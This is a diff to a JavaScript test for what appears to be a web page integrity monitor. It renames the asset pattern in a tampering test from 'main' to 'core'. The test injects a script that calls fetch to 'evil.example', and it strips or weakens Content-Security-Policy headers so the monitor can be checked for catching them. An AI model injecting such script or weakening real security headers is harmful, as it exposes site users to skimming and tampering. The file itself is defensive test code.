@@ -174,7 +174,7 @@ test("a page that is changed on its way", async (t) => {
 
   await t.test("a script with other bytes, and header fields that are gone, doubled or weaker", async () => {
     const pci = await seen((answer) => {
-      if (/\/main-.*\.js$/.test(answer.path)) answer.text += ";fetch('https://evil.example')";
+      if (/\/core-.*\.js$/.test(answer.path)) answer.text += ";fetch('https://evil.example')";
       if (answer.path === "/billing") delete answer.headers["content-security-policy"];
       if (answer.path === "/join") answer.headers["content-security-policy"] = "script-src *";
       if (answer.path === "/security") answer.headers["x-content-type-options"] = ["nosniff", "nosniff"];
@@ -184,7 +184,7 @@ test("a page that is changed on its way", async (t) => {
     assert.equal(gone, "/billing: Content-Security-Policy is missing");
     assert.equal(weaker, "/join: Content-Security-Policy is script-src *");
     assert.equal(doubled, "/security: X-Content-Type-Options is there more than once");
-    assert.match(bytes, /^\/assets\/main-\S+\.js: its SHA-256 is [0-9a-f]{64}, not the inventory's$/);
+    assert.match(bytes, /^\/assets\/core-\S+\.js: its SHA-256 is [0-9a-f]{64}, not the inventory's$/);
     assert.equal((await alerts()).length, 1, "once a day");
   });
 
